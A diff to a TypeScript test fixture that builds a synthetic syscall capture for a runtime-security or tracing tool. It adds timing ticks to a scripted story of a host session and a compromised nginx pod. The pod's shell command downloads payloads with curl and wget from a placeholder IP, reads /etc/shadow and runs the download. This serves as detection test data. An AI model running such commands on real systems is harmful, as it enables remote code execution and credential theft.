@@ -43,26 +43,33 @@ export function storyScap(): Buffer {
         labels: { app: 'nginx', 'io.kubernetes.pod.name': 'nginx-test', 'io.kubernetes.pod.namespace': 'default', 'io.kubernetes.pod.uid': POD_UID },
       });
       // host: alice logs in over ssh
+      b.tick(2_000_000_000n);
       b.fork(901, 3100, { uid: 1000, cwd: '/home/alice' }).exec(3100, { filename: '/usr/bin/bash', argv0: '-bash', comm: 'bash', loginuid: 1000 });
       b.filler(3100, 20);
+      b.tick(4_000_000_000n);
       b.fork(3100, 3105).exec(3105, { filename: '/usr/bin/ls', argv0: 'ls', args: ['-la', '/home/alice'] }).filler(3105, 10).exit(3105);
+      b.tick(3_000_000_000n);
       b.fork(3100, 3106).exec(3106, { filename: '/usr/bin/ps', argv0: 'ps', args: ['aux'] }).filler(3106, 30).exit(3106);
       // the pod: a worker thread, then the worker spawns a shell
+      b.tick(1_000_000_000n);
       b.fork(2351, 2360, { flags: CL.THREAD | CL.VM | CL.FILES | CL.FS | CL.SIGHAND | IN_POD, vtid: 31 });
       b.filler(2351, 20);
+      b.tick(5_000_000_000n);
       b.fork(2351, 4001, { vtid: 31, flags: IN_POD }).exec(4001, {
         filename: '/bin/sh', exepath: '/bin/sh', argv0: '/bin/sh',
         args: ['-c', 'curl -s -o /tmp/x http://203.0.113.7/x; wget -q -O /tmp/y http://203.0.113.7/y; cat /etc/shadow; /tmp/x &'],
       });
       b.fork(4001, 4002, { kind: 'vfork', vtid: 32, flags: IN_POD, sides: ['child', 'caller'] })
         .exec(4002, { filename: '/usr/bin/curl', argv0: 'curl', args: ['-s', '-o', '/tmp/x', 'http://203.0.113.7/x'] })
-        .filler(4002, 40)
-        .exit(4002);
+        .filler(4002, 40);
+      b.tick(800_000_000n);
+      b.exit(4002);
       b.fork(4001, 4003, { kind: 'vfork', vtid: 33, flags: IN_POD, sides: ['child', 'caller'] })
         .exec(4003, { filename: '/usr/local/sbin/wget', argv0: 'wget', args: ['-q', '-O', '/tmp/y', 'http://203.0.113.7/y'], res: -2 })
         .exec(4003, { filename: '/usr/bin/wget', argv0: 'wget', args: ['-q', '-O', '/tmp/y', 'http://203.0.113.7/y'] })
-        .filler(4003, 40)
-        .exit(4003);
+        .filler(4003, 40);
+      b.tick(600_000_000n);
+      b.exit(4003);
       b.fork(4001, 4004, { kind: 'vfork', vtid: 34, flags: IN_POD, sides: ['child', 'caller'] })
         .exec(4004, { filename: '/usr/bin/cat', argv0: 'cat', args: ['/etc/shadow'] })
         .exit(4004, 1 << 8);
@@ -71,9 +78,13 @@ export function storyScap(): Buffer {
       // /tmp/x runs after its shell is gone: re-parented to nginx's master (the pod's subreaper)
       b.exec(4005, { filename: '/tmp/x', argv0: '/tmp/x', ptid: 2330 }).filler(4005, 30);
       // host again, with pid reuse of 3105 and of 4002
+      b.tick(3_000_000_000n);
       b.fork(3100, 3105).exec(3105, { filename: '/usr/bin/cat', argv0: 'cat', args: ['/etc/hostname'] }).exit(3105);
+      b.tick(2_000_000_000n);
       b.fork(3100, 4002).exec(4002, { filename: '/usr/bin/top', argv0: 'top', args: ['-b', '-n', '1'] }).filler(4002, 20).exit(4002);
+      b.tick(10_000_000_000n);
       b.exit(4005, 9);
+      b.tick(5_000_000_000n);
       b.exit(3100);
     },
   );
